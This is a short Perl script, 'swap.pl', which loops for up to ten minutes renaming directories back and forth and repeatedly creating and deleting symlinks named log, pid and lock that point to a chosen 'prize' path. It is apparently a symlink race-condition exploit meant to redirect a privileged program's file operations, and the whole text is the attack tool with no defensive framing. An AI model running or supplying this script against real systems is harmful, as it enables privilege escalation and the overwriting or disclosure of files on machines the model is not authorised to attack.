# swap.pl DIRECTORY PRIZE: replaces a directory and files of DIRECTORY by links
# to PRIZE and its files, again and again, for ten minutes at most.
alarm 600;
my ($directory, $prize) = @ARGV;
chdir $directory or die;
while (1) {
	rename "d", "x";
	rename "l", "d";
	rename "d", "l";
	rename "x", "d";
	for my $name ("log", "pid", "lock") {
		symlink "$prize/$name", "f/$name";
		unlink "f/$name";
	}
}
